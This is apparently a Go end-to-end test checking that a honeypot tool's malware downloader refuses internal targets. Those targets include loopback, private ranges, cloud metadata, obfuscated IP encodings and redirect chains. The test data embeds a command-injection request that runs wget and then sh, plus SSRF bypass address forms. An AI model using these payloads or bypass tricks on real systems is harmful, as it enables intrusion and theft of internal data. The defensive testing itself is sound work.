package test

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/lab"
	"github.com/spoki-telescope/spoki/records"
)

// dlServer is one HTTP server inside the lab's scanner namespace.
type dlServer struct {
	addr netip.AddrPort
	hits atomic.Int32
}

// dlInternal are the addresses of each internal class that the test puts
// on loopback in the scanner namespace, with the class's name.
var dlInternal = []struct {
	class string
	addr  string
}{
	{"RFC 1918 10/8", "10.20.30.40"},
	{"RFC 1918 172.16/12", "172.16.5.5"},
	{"RFC 1918 192.168/16", "192.168.77.1"},
	{"CGNAT 100.64/10", "100.64.7.7"},
	{"cloud metadata 169.254.169.254", "169.254.169.254"},
	{"ULA fd00::/8", "fd00::1"},
}

// dlHostName is the DNS name that /etc/hosts of the namespace resolves to
// 10.20.30.40.
const dlHostName = "internal.spoki-test.example"

// TestDownloadDeniesInternalTargets runs `spoki download` inside a lab
// namespace that holds a web server on every internal address class (on
// loopback and on a dummy interface), and an allowed web server that
// redirects inside. With its defaults every URL is refused before connect
// (status denied, an activity row each, no request reaches a server,
// nothing stored, no proxy used); with --allow for each range the same
// URLs are fetched, which shows that the servers were there to be reached.
func TestDownloadDeniesInternalTargets(t *testing.T) {
	l := e2eNewLab(t, lab.Config{})
	bin := labSpokiBin(t)
	ns := l.Scanner
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	// The internal addresses, on the namespace's loopback interface (the
	// namespace goes with the lab, and them with it).
	for _, a := range dlInternal {
		args := []string{"-n", ns, "addr", "add", a.addr, "dev", "lo"}
		if strings.Contains(a.addr, ":") {
			args = append(args, "nodad")
		}
		ipRun(t, ctx, args...)
	}
	// /etc/hosts and resolv.conf of the namespace: ip netns exec
	// bind-mounts them over the host's, so the name resolves inside and no
	// DNS query can leave.
	etc := filepath.Join("/etc/netns", ns)
	if _, err := os.Stat("/etc/netns"); os.IsNotExist(err) {
		t.Cleanup(func() { os.Remove("/etc/netns") }) // only if empty
	}
	if err := os.MkdirAll(etc, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(etc) })
	hosts := "127.0.0.1 localhost\n::1 localhost\n10.20.30.40 " + dlHostName + "\n"
	if err := os.WriteFile(filepath.Join(etc, "hosts"), []byte(hosts), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(etc, "resolv.conf"), []byte("nameserver 127.0.0.1\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	secret := func(s *dlServer) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			s.hits.Add(1)
			fmt.Fprintf(w, "internal answer from %s\n", s.addr)
		})
	}
	servers := map[string]*dlServer{}
	for _, a := range append([]string{"127.0.0.1", "::1"}, func() []string {
		var out []string
		for _, x := range dlInternal {
			out = append(out, x.addr)
		}
		return out
	}()...) {
		s := &dlServer{}
		s.addr = dlListen(t, ns, a, secret(s))
		servers[a] = s
	}
	// The allowed server (the scanner's veth address, opened with
	// --allow) redirects to an internal address; the proxy counts what
	// would go through it.
	outside := &dlServer{}
	outside.addr = dlListen(t, ns, lab.ScannerAddr4.String(), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		outside.hits.Add(1)
		switch r.URL.Path {
		case "/hop":
			http.Redirect(w, r, "/to-internal", http.StatusFound)
		case "/to-internal":
			http.Redirect(w, r, "http://"+servers["10.20.30.40"].addr.String()+"/stolen", http.StatusFound)
		default:
			http.Redirect(w, r, "http://169.254.169.254:"+fmt.Sprint(servers["169.254.169.254"].addr.Port())+"/latest/meta-data/", http.StatusFound)
		}
	}))
	proxy := &dlServer{}
	proxy.addr = dlListen(t, ns, lab.ScannerAddr4.String(), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		proxy.hits.Add(1)
		fmt.Fprintln(w, "via proxy")
	}))

	p4 := fmt.Sprint(servers["127.0.0.1"].addr.Port())
	p6 := fmt.Sprint(servers["::1"].addr.Port())
	p10 := fmt.Sprint(servers["10.20.30.40"].addr.Port())
	type dlCase struct{ class, url, server string }
	cases := []dlCase{
		{"loopback 127.0.0.1", "http://127.0.0.1:" + p4 + "/x", "127.0.0.1"},
		{"loopback [::1]", "http://[::1]:" + p6 + "/x", "::1"},
		{"unspecified 0.0.0.0", "http://0.0.0.0:" + p4 + "/x", "127.0.0.1"},
		{"unspecified [::]", "http://[::]:" + p6 + "/x", "::1"},
		{"IPv4-mapped [::ffff:127.0.0.1]", "http://[::ffff:127.0.0.1]:" + p4 + "/x", "127.0.0.1"},
		{"localhost", "http://localhost:" + p4 + "/x", "127.0.0.1"},
		{"decimal 2130706433", "http://2130706433:" + p4 + "/x", "127.0.0.1"},
		{"hex 0x7f000001", "http://0x7f000001:" + p4 + "/x", "127.0.0.1"},
		{"octal 0177.0.0.1", "http://0177.0.0.1:" + p4 + "/x", "127.0.0.1"},
		{"DNS name via /etc/hosts to 10/8", "http://" + dlHostName + ":" + p10 + "/x", "10.20.30.40"},
		{"redirect chain to 10/8", "http://" + outside.addr.String() + "/hop", "10.20.30.40"},
		{"redirect to cloud metadata", "http://" + outside.addr.String() + "/meta", "169.254.169.254"},
	}
	for _, a := range dlInternal {
		cases = append(cases, dlCase{a.class, "http://" + servers[a.addr].addr.String() + "/x", a.addr})
	}

	// The input: one session event per URL, as spoki run logs them.
	in := filepath.Join(t.TempDir(), "lab.events.20261201-19.jsonl")
	var log bytes.Buffer
	for i, c := range cases {
		line, err := records.AppendSessionEvent(nil, &records.Session{
			Flow: records.Flow{Remote: netip.AddrPortFrom(netip.MustParseAddr("203.0.113.9"), uint16(40000+i)),
				Local: netip.MustParseAddrPort("198.51.100.1:80"), Accepted: time.Unix(1764615600, 0)},
			End: time.Unix(1764615601, 0), AppProto: "http",
			Payload: []byte("GET /cgi-bin/x?cmd=cd+/tmp;wget+" + c.url + ";sh+x HTTP/1.1\r\n\r\n"),
		})
		if err != nil {
			t.Fatal(err)
		}
		log.Write(line)
	}
	if err := os.WriteFile(in, log.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}

	run := func(store string, extra ...string) map[string][2]string {
		t.Helper()
		args := append([]string{"download", "--out", store, "--timeout", "5s",
			"--allow", lab.ScannerAddr4.String() + "/32"}, extra...)
		args = append(args, in)
		cctx, ccancel := context.WithTimeout(ctx, time.Minute)
		defer ccancel()
		cmd := l.Command(cctx, ns, bin, args...)
		proxyURL := "http://" + proxy.addr.String()
		cmd.Env = append(os.Environ(), "HTTP_PROXY="+proxyURL, "http_proxy="+proxyURL, "HTTPS_PROXY="+proxyURL)
		var o, e bytes.Buffer
		cmd.Stdout, cmd.Stderr = &o, &e
		cmd.WaitDelay = 2 * time.Second
		err := cmd.Run()
		t.Logf("spoki %s: %v\nstdout:\n%s\nstderr:\n%s", strings.Join(args, " "), err, o.String(), e2eTruncate(e.String(), 4000))
		if err != nil {
			t.Fatalf("spoki download: %v", err)
		}
		got := map[string][2]string{}
		for _, line := range strings.Split(strings.TrimRight(o.String(), "\n"), "\n") {
			f := strings.SplitN(line, "\t", 3)
			if len(f) == 3 {
				got[f[1]] = [2]string{f[0], f[2]}
			}
		}
		return got
	}

	// The defaults: everything denied.
	store := t.TempDir()
	got := run(store)
	for _, c := range cases {
		r := got[c.url]
		t.Logf("class %-34s %-60s -> %s: %s", c.class, c.url, r[0], r[1])
		if r[0] != "denied" || !strings.Contains(r[1], "denied: ") {
			t.Errorf("%s (%s): %q, want denied", c.class, c.url, r)
		}
	}
	for a, s := range servers {
		if h := s.hits.Load(); h != 0 {
			t.Errorf("the internal server on %s got %d requests, want 0", a, h)
		}
	}
	if outside.hits.Load() == 0 {
		t.Error("the allowed server got no request: the redirect chains were not followed")
	}
	if ents, _ := os.ReadDir(filepath.Join(store, "malware")); len(ents) != 0 {
		t.Errorf("malware/ has %d entries, want none", len(ents))
	}
	activity := dlActivity(t, store)
	for _, c := range cases {
		if !strings.Contains(activity, "|"+c.url+"||True|denied: ") {
			t.Errorf("no denied activity row for %s", c.url)
		}
	}

	// With --allow for each range the same URLs are fetched.
	outside.hits.Store(0)
	store2 := t.TempDir()
	var allow []string
	for _, p := range []string{"127.0.0.0/8", "::1/128", "0.0.0.0/32", "::/128", "10.0.0.0/8", "172.16.0.0/12",
		"192.168.0.0/16", "100.64.0.0/10", "169.254.169.254/32", "fd00::/8"} {
		allow = append(allow, "--allow", p)
	}
	got = run(store2, allow...)
	for _, c := range cases {
		if r := got[c.url]; r[0] != "success" {
			t.Errorf("%s (%s) with --allow: %q, want success", c.class, c.url, r)
		}
	}
	for a, s := range servers {
		if s.hits.Load() == 0 {
			t.Errorf("with --allow the server on %s got no request", a)
		}
	}
	if ents, _ := os.ReadDir(filepath.Join(store2, "malware")); len(ents) == 0 {
		t.Error("with --allow nothing was stored")
	}
	if h := proxy.hits.Load(); h != 0 {
		t.Errorf("the proxy of HTTP_PROXY got %d requests, want 0", h)
	}
}

// ipRun runs ip with args or fails the test.
func ipRun(t *testing.T, ctx context.Context, args ...string) {
	t.Helper()
	out, err := exec.CommandContext(ctx, "ip", args...).CombinedOutput()
	if err != nil {
		t.Fatalf("ip %s: %v: %s", strings.Join(args, " "), err, out)
	}
}

// dlListen opens a listener on addr (port chosen by the kernel) inside
// namespace ns and serves h on it until the end of the test.
func dlListen(t *testing.T, ns, addr string, h http.Handler) netip.AddrPort {
	t.Helper()
	var ln net.Listener
	err := lab.InNetns(ns, func() error {
		var err error
		ln, err = net.Listen("tcp", net.JoinHostPort(addr, "0"))
		return err
	})
	if err != nil {
		t.Fatalf("listen on %s in %s: %v", addr, ns, err)
	}
	srv := &http.Server{Handler: h, ReadHeaderTimeout: 5 * time.Second}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return netip.MustParseAddrPort(ln.Addr().String())
}

// dlActivity returns the rows of every activity file of the store.
func dlActivity(t *testing.T, store string) string {
	t.Helper()
	var sb strings.Builder
	ents, err := os.ReadDir(filepath.Join(store, "activity"))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		f, err := os.Open(filepath.Join(store, "activity", e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		zr, err := gzip.NewReader(f)
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(zr)
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
		sb.Write(b)
	}
	return sb.String()
}
